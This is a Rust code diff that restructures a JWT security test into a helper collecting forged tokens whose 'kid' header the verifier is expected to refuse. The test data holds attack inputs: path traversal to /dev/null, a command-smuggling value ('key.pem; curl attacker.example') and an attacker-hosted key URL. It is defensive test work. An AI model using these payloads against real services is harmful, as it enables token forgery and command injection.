@@ -113,7 +113,13 @@ pub(in crate::domain::jwt::tests) fn jwt_tool(world: &World) -> Vec<Bad> {
         let token = mac(&tampered(&hmac("HS256")), guess.as_bytes(), Library::HS256);
         refused(&format!("-C: {guess}"), token, Refusal::Algorithm);
     }
-    // kid: a file or row with content that the attacker knows, which is then the secret; or a command.
+    bad.extend(kid_injections(world));
+    bad
+}
+
+/// `kid` names a file or row with content that the attacker knows, which is then the secret; or is a command.
+fn kid_injections(world: &World) -> Vec<Bad> {
+    let mut bad = Vec::new();
     for (kid, secret) in [
         ("../../../../../../dev/null", ""),
         ("/dev/null", ""),
@@ -125,13 +131,10 @@ pub(in crate::domain::jwt::tests) fn jwt_tool(world: &World) -> Vec<Bad> {
         ("key.pem; curl attacker.example", ""),
         ("http://attacker.example/key", ""),
     ] {
-        let mut header = hmac("HS256");
+        let mut header = header_with(world, "alg", json!("HS256"));
         header["kid"] = json!(kid);
-        refused(
-            &format!("kid: {kid}"),
-            mac(&tampered(&header), secret.as_bytes(), Library::HS256),
-            Refusal::KeyId,
-        );
+        let token = mac(&tampered(&header), secret.as_bytes(), Library::HS256);
+        bad.push((format!("kid: {kid}"), token, Refusal::KeyId));
     }
     bad
 }
